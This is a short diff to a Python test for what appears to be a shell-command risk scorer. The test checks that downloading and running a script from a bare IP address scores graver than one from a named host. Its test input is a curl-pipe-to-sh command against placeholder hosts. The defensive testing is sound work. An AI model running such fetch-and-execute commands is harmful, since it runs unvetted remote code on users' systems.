@@ -429,7 +429,7 @@ def test_what_a_verb_is_done_to_decides_the_category(
 
 def test_code_from_a_bare_address_is_graver_than_an_installer_from_a_named_host() -> None:
     named, bare = (
-        read_shell(f"curl -s {host}/i.sh | sh").actions[0] for host in ("https://x.io", "http://203.0.113.9")
+        read_shell(f"curl -s {host}/i.sh | sh").actions[-1] for host in ("https://x.io", "http://203.0.113.9")
     )
 
     assert named.weight < bare.weight
